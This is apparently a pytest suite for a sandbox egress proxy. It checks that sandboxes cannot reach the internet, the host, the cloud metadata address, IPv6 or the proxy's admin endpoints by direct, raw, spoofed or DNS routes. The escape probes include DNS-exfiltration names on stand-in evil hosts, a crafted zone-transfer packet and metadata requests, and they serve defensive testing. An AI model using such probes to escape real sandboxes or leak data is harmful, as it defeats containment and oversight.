"""Ways out of a sandbox that are not the proxy: the list that every kind of sandbox is held to, from inside.

Each has its good twins. What the proxy lets through works from the same sandbox, with the credential that the
sandbox never had; and the same probe comes through where there is no wall. And what reaches the door and is
refused there is on record, as this sandbox's: a way that leaves no line was not seen by anybody.

A kind of sandbox has a class of tests that inherits `Escapes`, and its grounds as fixtures: `ground`, one
whose user is root (`root_ground`), one with a proxy that may end (`own_ground`). What only one kind can be
asked stands with its tests.
"""

from __future__ import annotations

import json
import signal
from abc import ABC, abstractmethod
from collections import Counter
from collections.abc import Iterable, Mapping, Sequence
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any, Final

import pytest

from egress.runtime.spec import Command
from tests.proxy.serve_process import until
from tests.runtime.sandbox_lab import NAME, SECRET, LabSandbox, SandboxLab

PROBE: Final = Path(__file__).with_name("escape_probe.py").read_text(encoding="utf-8")
METADATA: Final = "169.254.169.254"
SANDBOXES: Final = "198.18.77.3"
"""An address out of those that sandboxes have, and none of this one."""
UNKNOWN: Final = "evil.example.test"

Attempt = tuple[str | int, ...]
RecordedRefusal = tuple[str, str, str]
"""What a record has to say: how it came, why it was refused, and the host that was asked for."""

_DATA: Final = "c2vzyw1l.exfil.example.test"
_TRYING: Final = """
import socket, sys, time
while True:
    for host in sys.argv[1:]:
        for port in (53, 443):
            with socket.socket() as sock:
                sock.settimeout(0.05)
                print("refused" if sock.connect_ex((host, port)) else "reached")
    time.sleep(0.01)
"""
_TRANSFER: Final = (
    b"\x12\x34\x01\x00\0\1\0\0\0\0\0\0" + b"\x08c2vzyw1l\x04evil\x07example\x04test\0" + b"\0\xfc\0\1"
)


class EscapeGround(ABC):
    """One sandbox, and what it could reach if its wall had a hole."""

    room: LabSandbox[Any]
    door: str
    """The address of its door."""
    address: str
    """Its own address."""
    gateway: str
    """Where a gateway would be."""
    device: str
    """The interface that its packets leave by."""
    internet: str
    """A machine that answers everything at the ports of `tests.runtime.fake_internet`."""
    machine: Sequence[str]
    """The addresses of this machine."""
    port: int
    """Where this machine answers, by TCP and UDP."""
    foreign: Sequence[str]
    """Addresses that belong to others."""

    @abstractmethod
    def twin(self, attempts: Iterable[Attempt]) -> Mapping[str, object]:
        """How far attempts come where there is no wall."""

    @abstractmethod
    def datagrams(self) -> str:
        """The sockets for datagrams in the network of the door, as the kernel lists them."""

    @property
    def house(self) -> SandboxLab[Any]:
        house = self.room.house
        assert isinstance(house, SandboxLab)
        return house


def lines(attempts: Iterable[Attempt]) -> bytes:
    """Attempts as the probe reads them."""
    return b"".join(json.dumps(attempt).encode() + b"\n" for attempt in attempts)


def probed(room: LabSandbox[Any], attempts: Iterable[Attempt], timeout: float = 60) -> Mapping[str, object]:
    """How far the attempts came in the sandbox."""
    result = room.run("python3", "-c", PROBE, input=lines(attempts), timeout=timeout).check()
    found = json.loads(result.stdout_bytes)
    assert isinstance(found, dict)
    return found


def assert_nothing_is_reached(room: LabSandbox[Any], attempts: Iterable[Attempt]) -> None:
    found = probed(room, attempts)
    assert found
    assert "reached" not in found.values(), found


def assert_all_is_reached(ground: EscapeGround, attempts: Iterable[Attempt]) -> None:
    """Where there is no wall: else the probe would prove nothing."""
    found = ground.twin(attempts)
    assert set(found.values()) == {"reached"}, found


def assert_works(room: LabSandbox[Any]) -> None:
    """The good twin of everything: the proxy is reached by name, and adds what the sandbox does not have."""
    seen = room.house.upstream.seen
    before = len(seen)
    for options in ((), ("--noproxy", "*")):
        assert room.get("/ok", *options).check().stdout_bytes == b"hello from outside\n"
    assert [each.authorization for each in seen[before:]] == [f"Bearer {SECRET}"] * 2


def recorded(room: LabSandbox[Any]) -> Counter[RecordedRefusal]:
    """What was refused of this sandbox, or denied. The first twenty refusals of a second have a line each."""
    lines = room.house.served.records()[room.recorded_before :]
    mine = [each for each in lines if each.get("sandbox") == room.name and _is_refused(each)]
    return Counter((str(each["entry"] or ""), str(each["code"]), str(each["host"] or "")) for each in mine)


def _is_refused(line: Mapping[str, object]) -> bool:
    return line["event"] == "refusal" or (line["event"] == "exchange" and line["verdict"] == "deny")


def assert_recorded(room: LabSandbox[Any], *expected: RecordedRefusal) -> None:
    """What reached the door and was refused there is in the records: each as often as it stands here."""
    wanted = Counter(expected)
    try:
        until(lambda: recorded(room) >= wanted)
    except AssertionError:
        found = recorded(room)
        raise AssertionError(f"not in the records: {wanted - found}; there is {found}") from None


class Escapes:
    """The list. What a way needs to be told of a sandbox is on its ground."""

    def test_nothing_leads_to_the_internet(self, ground: EscapeGround) -> None:
        """S-44, S-45, S-46: TCP, UDP, ICMP and DNS, by address."""
        there = ground.internet
        attempts: list[Attempt] = [
            *((f"tcp {port}", "tcp", there, port) for port in (53, 80, 443, 9999)),
            *((f"udp {port}", "udp", there, port) for port in (53, 443, 9999)),
            ("ping", "ping", there, 2),
            ("dns", "name", "data.of.mine.example.test", there),
        ]
        assert_all_is_reached(ground, attempts)
        assert_nothing_is_reached(ground.room, attempts)
        assert_works(ground.room)

    def test_nothing_leads_to_this_machine(self, ground: EscapeGround) -> None:
        """S-48: every address of it, its metadata, the gateway that there is not, and names for it."""
        host = "host.docker.internal"
        attempts: list[Attempt] = [
            *((f"tcp {each}", "tcp", each, ground.port) for each in ground.machine),
            *((f"udp {each}", "udp", each, ground.port) for each in ground.machine),
            *((f"metadata {port}", "tcp", METADATA, port) for port in (80, 443)),
            ("metadata by udp", "udp", METADATA, 53),
            ("name of the machine", "name", host),
        ]
        more: list[Attempt] = [
            *((f"gateway {port}", "tcp", ground.gateway, port) for port in (53, 80, ground.port)),
            ("gateway by udp", "udp", ground.gateway, 53),
            ("gateway by ping", "ping", ground.gateway, 2),
            ("name of the gateway", "name", "gateway.docker.internal"),
        ]
        assert_all_is_reached(ground, attempts)
        assert_nothing_is_reached(ground.room, [*attempts, *more])
        assert_recorded(
            ground.room,
            ("dns", "host.unknown", host),
            ("dns", "host.unknown", "gateway.docker.internal"),
        )
        assert_works(ground.room)

    def test_a_client_that_is_told_to_take_no_proxy_comes_nowhere_by_address(
        self, ground: EscapeGround
    ) -> None:
        """S-44, as people would write it."""
        assert_all_is_reached(ground, [("there", "tcp", ground.internet, 443)])
        for url in (f"http://{ground.internet}/", f"https://{ground.internet}/"):
            result = ground.room.run("curl", "-sSk", "--noproxy", "*", "--max-time", "6", url)
            assert result.exit_code in (7, 28), result
        # With the proxy it is refused there.
        refused = ground.room.run("curl", "-sS", "--max-time", "6", f"http://{ground.internet}/")
        assert b"host." in refused.stdout_bytes
        assert_recorded(ground.room, ("absolute", "host.literal", ground.internet))
        assert_works(ground.room)

    def test_ipv6_is_off(self, ground: EscapeGround) -> None:
        """S-45: no address of it, not even of loopback, no way to get one, and no neighbour by it."""
        attempts: list[Attempt] = [
            ("loopback", "tcp", "::1", 80),
            ("neighbour", "tcp", f"fe80::1%{ground.device}", 80),
            ("everybody", "udp", f"ff02::1%{ground.device}", 5353),
            ("enable", "enable_ipv6"),
        ]
        assert_nothing_is_reached(ground.room, attempts)
        assert ground.room.run("cat", "/proc/net/if_inet6").stdout_bytes == b""

    def test_no_packet_is_made_by_hand(self, ground: EscapeGround) -> None:
        """S-45, S-50: raw sockets, frames of any kind (so no ARP), other protocols, others' addresses."""
        assert_all_is_reached(
            ground, [("packets", "packets"), ("raw", "raw"), ("raw ping", "ping", ground.internet, 3)]
        )
        attempts: list[Attempt] = [
            ("packets", "packets"),
            ("raw", "raw"),
            ("raw ping", "ping", ground.door, 3),
            ("sctp", "sctp", ground.door, 443),
            ("address", "take_address", ground.foreign[0], ground.device),
            ("its own address", "spoof", ground.address, ground.door, 53),
            *((f"from {each}", "spoof", each, ground.door, 53) for each in ground.foreign),
        ]
        found = dict(probed(ground.room, attempts))
        # So the others fail for whose addresses they are.
        assert found.pop("its own address") == "reached"
        assert "reached" not in found.values(), found
        # What it said is no DNS. It has come, as this sandbox's, and nothing else has.
        assert_recorded(ground.room, ("dns", "protocol.refused", ""))
        assert recorded(ground.room).total() == 1

    @pytest.mark.timeout(400)
    def test_the_door_has_the_ports_it_was_asked_for_and_no_others(self, ground: EscapeGround) -> None:
        """S-48, S-49: nothing of the proxy that is for its operator is there, by TCP or UDP."""
        wanted = sorted([53, 80, 443, 3128, ground.house.upstream.port])
        ports = probed(ground.room, [("ports", "open_ports", ground.door)], timeout=360)["ports"]
        assert isinstance(ports, list)
        # Whoever dials a port that is his own by chance meets himself: no server has one of those.
        assert [port for port in ports if port < 32768 or port in wanted] == wanted
        assert _bound(ground.datagrams()) == [(ground.door, 53)]

    def test_names_are_answered_by_the_door_alone(self, ground: EscapeGround) -> None:
        """S-46, S-47: every name leads to the door alone; data in one goes nowhere, whoever is asked."""
        attempts: list[Attempt] = [
            ("by loopback", "name", _DATA, "127.0.0.1"),
            ("by the public", "name", _DATA, "8.8.8.8"),
            ("by another", "name", _DATA, ground.internet),
            ("by the gateway", "name", _DATA, ground.gateway),
        ]
        assert_all_is_reached(ground, [("by another", "name", _DATA, ground.internet)])
        assert_nothing_is_reached(ground.room, attempts)
        # A denied name has the address of the page that says so, also by an engine that asks the door.
        answers: list[Attempt] = [
            ("by the system", "resolve", _DATA),
            ("by the door", "resolve", _DATA, ground.door),
            ("by the engine", "resolve", _DATA, "127.0.0.11"),
        ]
        by_engine = (found := dict(probed(ground.room, answers))).pop("by the engine")
        assert set(found.values()) == {ground.door}
        assert by_engine in (ground.door, "ECONNREFUSED")
        assert probed(ground.room, [("allowed", "name", NAME, ground.door)]) == {"allowed": "reached"}
        assert ground.room.run("getent", "hosts", NAME).check().text.split() == [ground.door, NAME]
        # The system asked for both kinds of address, the probe for one.
        assert_recorded(ground.room, *[("dns", "host.unknown", _DATA)] * 3)

    def test_what_is_for_the_operator_of_the_proxy_is_not_there(self, ground: EscapeGround) -> None:
        """S-49: neither at the door, nor by the proxy at an address of this machine, nor by a name for it."""
        status, known = ground.house.served.ask("GET", "/status")
        assert (status, bool(known["sandboxes"])) == (200, True)
        by_proxy = ("--noproxy", "", "--proxy", f"http://{ground.door}:3128")
        at_door = ("--noproxy", "*", "--connect-to", f"::{ground.door}:80")
        addresses = (ground.door, "127.0.0.1", METADATA)
        names = ("localhost", "egress")
        for path in ("/status", "/metrics", "/sandboxes"):
            for options in (by_proxy, at_door):
                for host in (*addresses, *names):
                    url = f"http://{host}{path}"
                    found = ground.room.run("curl", "-s", "--max-time", "6", *options, url)
                    assert b"sandboxes" not in found.stdout_bytes
                    assert b"host." in found.stdout_bytes or b"request." in found.stdout_bytes, found
        assert_recorded(
            ground.room,
            *((entry, "host.literal", host) for entry in ("absolute", "host") for host in addresses),
            *((entry, "host.unknown", host) for entry in ("absolute", "host") for host in names),
        )
        assert_works(ground.room)

    def test_addresses_are_not_reached_by_way_of_the_proxy(self, ground: EscapeGround) -> None:
        """S-48: this machine's, those of other sandboxes, and their names: each try has its line."""
        there = [(each, ground.port) for each in ground.machine[:3]]
        others = [(METADATA, 80), (ground.gateway, 443), (SANDBOXES, 8000), ("host.docker.internal", 22)]
        asked = [f"{host}:{port}" for host, port in there + others]
        attempts = [_connect(ground, number, where) for number, where in enumerate(asked)]
        found = probed(ground.room, attempts)
        assert all(str(answer).startswith("HTTP/1.1 403 ") for answer in found.values()), found
        hosts = [each.rpartition(":")[0] for each in asked]
        assert_recorded(
            ground.room,
            *(("connect", "host.literal", host) for host in hosts[:-1]),
            ("connect", "host.unknown", hosts[-1]),
        )
        assert_works(ground.room)

    def test_whatever_reaches_the_door_and_is_refused_is_on_record(self, ground: EscapeGround) -> None:
        """S-47, S-48: bytes of no protocol at each port, greetings without a name, names, other ports."""
        door, other = ground.door, ground.house.upstream.port
        junk = "\x00\x01\x02 no protocol of anybody"
        attempts: list[Attempt] = [
            *((f"junk {port}", "say", door, port, junk) for port in (80, 443, other, 3128)),
            ("no head", "say", door, 80, "hello\r\n\r\n"),
            ("a name that is denied", "say", door, 80, f"GET / HTTP/1.1\r\nHost: {UNKNOWN}\r\n\r\n"),
            ("no name", "say", door, 80, "GET / HTTP/1.1\r\nHost: a..b\r\n\r\n"),
            ("no proxy request", "say", door, 3128, f"GET / HTTP/1.1\r\nHost: {NAME}\r\n\r\n"),
            _connect(ground, "another port", f"{NAME}:22"),
            _connect(ground, "another host", f"{UNKNOWN}:22"),
            ("http for names", "say", door, 53, "GET / HTTP/1.1\r\n\r\n"),
            ("a transfer", "say", door, 53, (len(_TRANSFER).to_bytes(2) + _TRANSFER).decode("latin-1")),
            ("a datagram of nothing", "udp", door, 53),
        ]
        found = probed(ground.room, attempts)
        assert not any(f" {code}" in str(found.values()) for code in ("200 OK", "200 Connection")), found
        # A greeting of TLS: to an address it has no name in it.
        options = ("--noproxy", "*", "--connect-to", f"::{door}:443", "--max-time", "6")
        assert ground.room.run("curl", "-sk", *options, f"https://{door}/").exit_code == 35
        # With one, it is told inside of TLS, whoever asks for a tunnel first or not.
        by_proxy = ("--noproxy", "", "--proxy", f"http://{door}:3128", "--max-time", "6")
        for how in (options, by_proxy):
            page = ground.room.run("curl", "-sk", *how, f"https://{UNKNOWN}/")
            assert b'"code": "host.unknown"' in page.check().stdout_bytes
        assert_recorded(
            ground.room,
            *[("", "protocol.refused", "")] * 4,
            ("", "request.malformed", ""),
            ("host", "host.unknown", UNKNOWN),
            ("host", "host.malformed", "a..b"),
            ("", "proxy.form", ""),
            ("connect", "host.port", NAME),
            ("connect", "host.unknown", UNKNOWN),
            ("dns", "request.malformed", ""),
            ("dns", "protocol.refused", "c2vzyw1l.evil.example.test"),
            ("dns", "protocol.refused", ""),
            ("sni", "host.malformed", ""),
            ("sni", "host.unknown", UNKNOWN),
            ("connect", "host.unknown", UNKNOWN),
        )
        assert_works(ground.room)

    def test_root_in_a_sandbox_is_nobody_more(self, root_ground: EscapeGround) -> None:
        """S-44 to S-46, S-50, S-51: an image may insist on it. Nor does it become another user."""
        ground, room = root_ground, root_ground.room
        assert room.run("id", "-u").text == "0\n"
        attempts: list[Attempt] = [
            ("tcp", "tcp", ground.internet, 443),
            ("udp", "udp", ground.internet, 443),
            ("dns", "name", _DATA, ground.internet),
            ("ping", "ping", ground.internet, 2),
            ("machine", "tcp", ground.machine[0], ground.port),
            ("packets", "packets"),
            ("raw", "raw"),
            ("address", "take_address", ground.foreign[0], ground.device),
            *((f"from {each}", "spoof", each, ground.door, 53) for each in ground.foreign),
            ("enable", "enable_ipv6"),
            ("door's user", "become", 10001),
            ("another user", "become", 1000),
        ]
        assert_nothing_is_reached(room, attempts)
        for words in (("mount", "-t", "tmpfs", "x", "/tmp"), ("unshare", "-n", "true")):
            assert room.run(*words).exit_code, words
        assert_works(room)

    def test_without_a_proxy_there_is_no_network(self, own_ground: EscapeGround) -> None:
        """S-52, S-53: nothing is open meanwhile, and a proxy that comes back finds the same doors."""
        room, house = own_ground.room, own_ground.house
        assert_works(room)
        words = ("python3", "-u", "-c", _TRYING, own_ground.internet, own_ground.machine[0])
        loop = house.runtime.spawn(room.name, Command(argv=words))
        house.served.process.send_signal(signal.SIGKILL)
        house.served.process.wait()
        attempts: list[Attempt] = [
            ("internet", "tcp", own_ground.internet, 443),
            ("machine", "tcp", own_ground.machine[0], own_ground.port),
            ("door", "tcp", own_ground.door, 443),
            ("names", "name", NAME),
        ]
        assert_nothing_is_reached(room, attempts)
        assert room.get("/none", "--max-time", "3").exit_code
        before = len(house.upstream.seen)
        house.served.kill()
        house.served.start()
        until(lambda: room.get("/again", "--max-time", "3").exit_code == 0, "the sandbox to be served again")
        assert_works(room)
        # All the while, without a window between.
        loop.kill(0)
        tried = loop.wait(30).text.split()
        assert len(tried) > 20
        assert "reached" not in tried
        assert {each.authorization for each in house.upstream.seen[before:]} == {f"Bearer {SECRET}"}
        added = [each["sandbox"] for each in house.served.records("sandbox.added")]
        assert added == [room.name, room.name]


def _bound(table: str) -> list[tuple[str, int]]:
    """The addresses in the kernel's list of sockets that others than the owner's machine could reach."""
    words = [line.split()[1].partition(":") for line in table.splitlines()[1:]]
    found = [(str(IPv4Address(bytes.fromhex(host)[::-1])), int(port, 16)) for host, _, port in words]
    return [(host, port) for host, port in found if not host.startswith("127.")]


def _connect(ground: EscapeGround, what: object, where: str) -> Attempt:
    return (str(what), "say", ground.door, 3128, f"CONNECT {where} HTTP/1.1\r\nHost: {where}\r\n\r\n")
